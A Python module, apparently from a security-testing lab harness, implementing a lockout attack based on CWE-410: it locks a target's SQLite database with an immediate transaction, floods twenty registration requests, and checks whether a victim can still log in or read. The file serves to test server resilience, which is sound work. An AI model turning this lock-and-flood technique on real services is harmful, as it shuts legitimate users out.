"""Lock everyone out by locking the database.

Exploits a server in which those who wait to write hold all threads or connections. Any program
that can open the file can lock it, a backup for example; then nobody can even read.
Source: CWE-410 Insufficient Resource Pool,
https://cwe.mitre.org/data/definitions/410.html
"""

import sqlite3
import time
from contextlib import closing

import httpx

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, got_in, refused
from attacks.lab.storms import unread
from attacks.lab.target import Person, Target

WRITERS = 20  # more than a usual pool has connections
PATIENCE = 3.0  # seconds, less than SQLite waits for a lock; and the time of all their hashes


@attack()
def run(target: Target) -> Outcome:
    """Lock, let many register, and see whether others can log in and read."""
    victim = target.enrol()
    start = time.perf_counter()
    token = target.token_of(victim)
    login = time.perf_counter() - start
    people = [Person().registration() for _ in range(WRITERS)]
    crowd = [target.http.build_request("POST", "/auth/register", json=body) for body in people]
    target.http.timeout = PATIENCE + WRITERS * login
    try:
        with closing(sqlite3.connect(target.leaked_database(), isolation_level=None)) as other:
            other.execute("BEGIN IMMEDIATE")
            with unread(crowd):
                answers = [target.log_in(victim.username, victim.password), target.read(token)]
    except httpx.TimeoutException:
        return got_in(f"nobody can log in while {WRITERS} wait to be stored")
    if all(answer.is_success for answer in answers):
        return refused(f"while {WRITERS} wait to be stored, others log in and read")
    return got_in(f"while {WRITERS} wait to be stored, others are not served")
